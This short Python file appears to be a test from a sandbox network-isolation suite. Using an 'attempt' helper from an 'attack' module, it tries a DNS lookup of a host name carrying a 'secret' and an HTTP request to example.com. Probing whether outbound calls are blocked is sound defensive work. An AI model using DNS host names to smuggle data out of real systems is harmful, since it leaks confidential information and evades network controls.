"""A secret in a host name."""

import socket
import urllib.request

from attack import attempt

attempt(lambda: socket.getaddrinfo("secret.example.com", 80))
attempt(lambda: urllib.request.urlopen("http://example.com", timeout=2).read(1))
